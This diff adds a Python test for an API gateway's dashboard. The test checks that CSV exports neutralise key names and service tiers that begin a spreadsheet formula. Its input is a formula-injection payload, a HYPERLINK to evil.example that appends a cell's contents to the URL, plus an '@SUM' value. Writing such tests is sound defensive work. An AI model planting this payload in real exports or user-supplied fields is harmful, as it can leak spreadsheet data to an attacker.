@@ -6,10 +6,18 @@ from __future__ import annotations
 import csv
 import io
 import re
+import time
+import uuid
+from datetime import UTC, datetime
+from pathlib import Path
 
 import httpx
 import pytest
 
+from gateway.contracts import UsageRecord
+from gateway.db import Database
+from gateway.usage.pricing import PriceTable
+from gateway.usage.writer import UsageWriter
 from tests.conftest import ADMIN_KEY
 from tests.gateway.dashboard_fixtures import DashEnv, dash, login  # noqa: F401
 
@@ -167,3 +175,29 @@ def test_request_detail_is_the_tenants_own_only(a_client: httpx.Client, dash: Da
     assert missing.status_code == 404 and dash.b.id not in missing.text
     assert {t["tenant_id"]: t["requests"] for t in overview["tenants"]} == {dash.a.id: dash.a.requests,
                                                                             dash.b.id: dash.b.requests}
+
+
+async def test_csv_exports_quote_a_key_name_or_tier_that_starts_a_formula(dash: DashEnv, tmp_path: Path) -> None:
+    """A tenant names its keys; an upstream names the service tier: either may start a formula."""
+    name = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    async with httpx.AsyncClient(base_url=dash.url, headers={"authorization": f"Bearer {ADMIN_KEY}"}) as admin:
+        key = (await admin.post("/admin/v1/keys", json={"tenant_id": dash.a.id, "name": name})).json()
+    at = time.time() - 60 * 86400  # outside every range the other tests read
+    db = Database.from_url(dash.db_url)
+    writer = UsageWriter(db, PriceTable(), journal_dir=tmp_path)
+    writer.record(UsageRecord(
+        request_id=uuid.uuid4().hex, key_id=key["id"], tenant_id=dash.a.id, model="echo", deployment="d",
+        provider="openai", endpoint="chat.completions", started_at=at, status=200, prompt_tokens=3,
+        completion_tokens=2, cost=0.5, service_tier="@SUM(1+1)",
+    ))  # fmt: skip
+    assert await writer.flush()
+    writer.journal.close()
+    await db.dispose()
+    day = datetime.fromtimestamp(at, UTC).date().isoformat()
+    params = {"start": day, "end": day, "bucket": "day"}
+    with httpx.Client(base_url=dash.url) as client:
+        login(client, dash.a.key)
+        by_key = client.get("/dashboard/api/export.csv", params={**params, "table": "by_key"}).text
+        requests = client.get("/dashboard/api/export.csv", params={**params, "table": "requests"}).text
+    assert [(r["key_name"], r["requests"]) for r in csv.DictReader(io.StringIO(by_key))] == [("'" + name, "1")]
+    assert [r["service_tier"] for r in csv.DictReader(io.StringIO(requests))] == ["'@SUM(1+1)"]
